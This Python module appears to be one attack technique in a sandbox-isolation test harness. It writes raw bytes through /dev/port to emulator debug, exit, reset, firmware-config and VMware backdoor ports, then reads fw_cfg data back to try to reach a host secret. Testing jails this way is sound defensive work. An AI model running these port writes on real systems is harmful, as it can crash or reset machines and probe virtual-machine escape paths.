"""A machine has ports that its firmware and its debugger use."""

import os
from typing import Any

from space_evaluate.inside import Case
from space_evaluate.technique import BLOCKED, HOST_SECRET, Technique

TECHNIQUE = Technique(
    tries="Write to ports of emulators' debug, exit, reset and firmware devices.",
    claim="G1",
    defences=("jail",),
    stopped_by=("guest:",),
    goals=(HOST_SECRET,),
    policies=(BLOCKED,),
    alone=True,
    dies=True,
    blank="what is not there does not answer: the machine has no such devices",
)


def attack(case: Case, what: Any) -> None:
    with open("/dev/port", "r+b", buffering=0) as port:
        said = []
        for at, data in ((0x501, b"\1"), (0xF4, b"\1"), (0x402, b"x"), (0x510, b"\0\0"), (0x5658, b"VMXh"), (0xB2, b"\1"), (0x80, b"\1")):
            try:
                os.lseek(port.fileno(), at, os.SEEK_SET)
                port.write(data)
                said.append(f"{at:#x} taken")
            except OSError as error:
                said.append(f"{at:#x} {error}")
        os.lseek(port.fileno(), 0x511, os.SEEK_SET)
        case.got(port.read(64))
    case.did("; ".join(said))
    case.refused("the machine runs on, and nothing came")
